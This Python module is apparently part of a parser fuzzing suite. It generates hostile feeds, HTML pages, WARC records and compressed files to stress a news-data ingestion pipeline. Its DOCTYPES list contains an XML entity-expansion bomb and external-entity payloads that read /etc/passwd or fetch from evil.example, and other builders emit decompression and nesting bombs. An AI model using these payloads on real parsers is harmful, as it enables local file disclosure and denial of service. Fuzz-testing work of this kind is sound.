"""Hostile files from the web (pages, feeds, archives), files hostile by size alone, and the list of all kinds.

Enters: a random generator and an empty folder. Leaves: files in it, and what is known of them (`hostile.Case`).
Deliberately not done: nothing is judged here (`fuzz.py` does that), no bomb that would take a sound reader seconds.
"""

from __future__ import annotations

import gzip
import json
import zlib
from pathlib import Path
from random import Random

from hostile import (
    DATES,
    NASTY,
    URLS,
    Case,
    Maker,
    address,
    columnar,
    delimited,
    json_file,
    jsonl,
    mangle,
    now,
    put,
    saved,
    text,
    value,
)

PIECES = (
    b'"a\n', b'"a,b\n', b"{}\n", b'{"text":"a"}\n', b'{"text":"a"},', b"<item/>", b"<item>", b"<item><b>&", b"&a;",
    b"[", b"<", b"[],", b"<![CDATA[", b"]]>", b"<!--", b"-->", b"a,\n", b",", b"\n", b"\r", b"<p>a", b"<b", b"<script>",
    b"\x1f\x8b\x08", b"\0", b"WARC/1.0\r\n", b"WARC/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n\r\n", b"\xff", b"a ",
    b"<a b=c>", b" a=b", b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 999999\r\n\r\n", b"&lt;", b"@@1 a\n",
)  # fmt: skip
BEGINNINGS = (
    b"", b"", b"text,url\n", b"<rss>", b"<html>", b"<html><p>", b'[{"text":"', b"[", b"<rss><item><title>",
    b"WARC/1.0\r\n", b"text,url\n\"",
)  # fmt: skip
ENCODINGS = (
    "utf-8",
    "iso-8859-1",
    "utf-7",
    "punycode",
    "utf-16",
    "utf-32",
    "idna",
    "x" * 30,
    "ascii",
    "big5",
    "unicode-escape",
)
DOCTYPES = (
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>",
    '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE rss [<!ENTITY a PUBLIC "x" "http://evil.example/x">]>',
    '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [<!ENTITY % b SYSTEM "http://evil.example/y"> %b;]>',
    '<!DOCTYPE rss [<!ENTITY a "' + "a" * 20000 + '">]>',
    '<!DOCTYPE rss [<!ENTITY a "&a;">]>',
    "<!DOCTYPE html>", "<!DOCTYPE", "<!DOCTYPE rss [<!ATTLIST item text CDATA 'x'>]>",
)  # fmt: skip
CODINGS = ("gzip", "deflate", "br", "zstd", "gzip, gzip", "x" * 50, "")


def bytes_of(rng: Random, said: str) -> bytes:
    return said.encode("utf-8", "surrogatepass" if rng.random() < 0.2 else "replace")


def escaped(rng: Random, said: str) -> str:
    match rng.randrange(4):
        case 0:
            return said
        case 1:
            return f"<![CDATA[{said}]]>"
        case _:
            return said.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def feed(rng: Random, folder: Path) -> Case:
    items = []
    for _ in range(rng.randrange(6)):
        parts = [f"<title>{escaped(rng, text(rng)[:60])}</title>", f"<link>{escaped(rng, address(rng))}</link>"]
        full = escaped(rng, text(rng))
        parts.append(rng.choice((f"<content:encoded>{full}</content:encoded>", f"<description>{full}</description>",
            f'<content type="xhtml"><div><p>{full}</p></div></content>', f'<content src="{rng.choice(URLS)}"/>',
            "<b>" * rng.choice((3, 300, 5000)), f"<x {'a' * 9000}='1' {'b=' * 9}>", "&a;" * rng.choice((1, 50)),
            "&i;" * 3)))  # fmt: skip
        parts.append(f"<pubDate>{rng.choice(DATES)}</pubDate>")
        rng.shuffle(parts)
        items.append(
            f"<{(name := rng.choice(('item', 'item', 'entry', 'item x=1')))}>{''.join(parts)}</{name[:5].strip()}>"
        )
    root = rng.choice(("rss", "feed", "rdf:RDF", "rss", "rss", rng.choice(("html", rng.choice(NASTY)))))
    declared = f'<?xml version="1.0" encoding="{rng.choice(ENCODINGS)}"?>' if rng.random() < 0.3 else ""
    doctype = rng.choice(DOCTYPES) if rng.random() < 0.2 else ""
    inside = "".join(items)
    said = f"{declared}{doctype}<{root}><channel><language>{rng.choice(NASTY)}</language>{inside}</channel></{root}>"
    plain = said.encode(rng.choice(("utf-16", "utf-16-be")), "replace") if rng.random() < 0.05 else bytes_of(rng, said)
    return put(rng, folder, rng.choice((".xml", ".rss", ".atom")), mangle(rng, plain), "piece")


def page(rng: Random) -> bytes:
    """Returns a web page that is built to trouble its parser."""
    linked = json.dumps([{"@type": rng.choice(("NewsArticle", "Article", "x")), "headline": value(rng),
                          "datePublished": rng.choice((*DATES, value(rng))), "@graph": value(rng)}])  # fmt: skip
    head = "".join(rng.sample((
        f"<meta charset={rng.choice(ENCODINGS)}>", f'<link rel=canonical href="{rng.choice(URLS)}">',
        f"<base href='{rng.choice(URLS)}'>",
        f'<meta property="og:url" content="{address(rng)}">', f"<title>{text(rng)[:80]}</title>",
        "<meta http-equiv=refresh content='0;url=http://x'>", f'<script type="application/ld+json">{linked}</script>',
        f'<script type="application/ld+json">{"[" * rng.choice((9, 9000))}</script>',
        f"<!-- Mirrored from {rng.choice(URLS)} by HTTrack -->", f'<meta name="date" content="{rng.choice(DATES)}">',
    ), rng.randrange(7)))  # fmt: skip
    body = "".join(f"<p>{text(rng)} {text(rng)}</p>" for _ in range(rng.randrange(6)))
    bomb = rng.choice((
        "", "", "", "", "<div>" * 300, "<b><i>" * 200, "<p " + "a=1 " * 400 + ">", f"<p {'x' * 20000}=1>", "&" * 3000,
        "&#xd800;" * 300,
        "<table><tr><td>" * 60, "<svg><style><!--", "<a href='" + "x" * 20000, "<select>" * 100, "<![CDATA[" * 99,
        "<?php " * 99,
        "<time datetime=x>" * 30, "<iframe src=http://evil.example>", "<object data=x><embed>", "\0" * 500,
        "<template>" * 99,
    ))  # fmt: skip
    begin = rng.choice(
        ("<!DOCTYPE html><html>", "<html lang='{x}'>", '<?xml version="1.0" encoding="utf-8"?><html>', "", "<frameset>")
    )
    said = f"{begin}<head>{head}</head><body><h1>{text(rng)[:50]}</h1>{bomb}<article>{body}</article></body></html>"
    if rng.random() < 0.05:
        return said.encode("utf-16", "replace")[: rng.choice((-1, None))]
    if rng.random() < 0.01:
        return said.replace(
            "<h1>", rng.choice(("<div>" * 40_000, "<p><b>" * 6000, "<!--" * 60_000, "<" * 90_000)), 1
        ).encode("utf-8", "replace")
    return mangle(rng, bytes_of(rng, said))


def html(rng: Random, folder: Path) -> Case:
    if rng.random() < 0.1:
        beside = {
            rng.choice(("news.html", rng.choice(NASTY))): rng.choice(
                ({"url": value(rng)}, {"url": address(rng)}, value(rng))
            )
        }
        (folder / rng.choice(("meta.info", "meta.json"))).write_bytes(mangle(rng, json.dumps(beside).encode()))
        (folder / "news.html").write_bytes(page(rng))
        return Case()
    return put(rng, folder, rng.choice((".html", ".htm")), page(rng), "page")


def record(rng: Random) -> bytes:
    """Returns a WARC record with a web page, or with something else."""
    payload, fields = page(rng) if rng.random() < 0.3 else bytes_of(rng, f"<html><p>{text(rng)}</p></html>"), []
    if rng.random() < 0.3:
        coding = rng.choice(CODINGS)
        fields.append(f"Content-Encoding: {coding}")
        payload = (
            gzip.compress(payload, 1)
            if coding == "gzip"
            else zlib.compress(payload, 1)
            if coding == "deflate"
            else payload
        )
    if rng.random() < 0.2:
        fields.append("Transfer-Encoding: chunked")
        payload = (
            f"{rng.choice((len(payload), 0, 2**31, len(payload) + 5)):x}\r\n".encode() + payload + b"\r\n0\r\n\r\n"
        )
    kind = rng.choice(("text/html", "text/html; charset=" + rng.choice(ENCODINGS), "image/png", rng.choice(NASTY)))
    http = "\r\n".join((f"HTTP/1.1 {rng.choice((200, 200, 200, 404, 'x'))} OK", f"Content-Type: {kind}", *fields))
    body = bytes_of(rng, http) + b"\r\n\r\n" + payload
    size = (
        len(body)
        if rng.random() < 0.85
        else rng.choice((0, -1, len(body) + 9, max(0, len(body) - 9), 2**40, "9" * 30, "x"))
    )
    kind = rng.choice(("response", "response", "response", "request", "warcinfo", rng.choice(NASTY)))
    header = f"WARC/1.0\r\nWARC-Type: {kind}\r\nWARC-Target-URI: {address(rng)}\r\nContent-Length: {size}\r\n\r\n"
    return bytes_of(rng, header) + body + b"\r\n\r\n"


def warc(rng: Random, folder: Path) -> Case:
    records = [mangle(rng, record(rng), rng.choice((0, 0, 0, 1, 3))) for _ in range(rng.randrange(5))]
    if rng.random() < 0.5:
        (folder / "crawl.warc").write_bytes(b"".join(records))
        return Case("piece", None, b"".join(records))
    packed = (
        b"".join(gzip.compress(one, 1) for one in records)
        if rng.random() < 0.7
        else gzip.compress(b"".join(records), 1)
    )
    (folder / "crawl.warc.gz").write_bytes(mangle(rng, packed))
    return Case()


def big(rng: Random, folder: Path) -> Case:
    """A line, a field, a token or a page of 50 to 70 MB, or a small file that unpacks to that."""
    size = rng.choice((50, 70)) << 20
    filling = rng.choice((b"a ", b"\xff", b"<", b'"', b"&#1;", b"[", b"\0", b"<b>")) * (size // 2)
    ending = rng.choice((".jsonl", ".json", ".csv", ".xml", ".html", ".warc"))
    begin = {".jsonl": b'{"text": "', ".json": b'[{"text": "', ".csv": b'text,url\n"', ".xml": b"<rss><item><title>",
             ".html": b"<html><p>",
             ".warc": b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999\r\n\r\n"}[ending]  # fmt: skip
    plain = begin + filling[:size] + b'"}]\n'
    (folder / f"big{ending}.gz").write_bytes(zlib.compress(plain, 1, 31))
    return Case()


def monotone(rng: Random, folder: Path) -> Case:
    """A megabyte of one small piece, which may be cheap once and dear when it comes again and again."""
    piece = rng.choice(PIECES)
    ending = rng.choice((".jsonl", ".json", ".csv", ".tsv", ".xml", ".html", ".warc", ".warc.gz", ".parquet", ".arrow"))
    begin = rng.choice(BEGINNINGS)
    (folder / f"news{ending}").write_bytes(begin + piece * ((1 << 20) // len(piece)))
    return Case()


KINDS: dict[str, tuple[int, Maker]] = {
    "jsonl": (3000, jsonl),
    "json": (2000, json_file),
    "csv": (2400, delimited),
    "parquet, arrow": (1500, columnar),
    "saved data set": (250, saved),
    "feed": (2200, feed),
    "html": (600, html),
    "warc": (600, warc),
    "now": (900, now),
    "1 MB of one piece": (6, monotone),
    "50 to 70 MB": (1, big),
}
"""Name -> how often, and what makes it."""
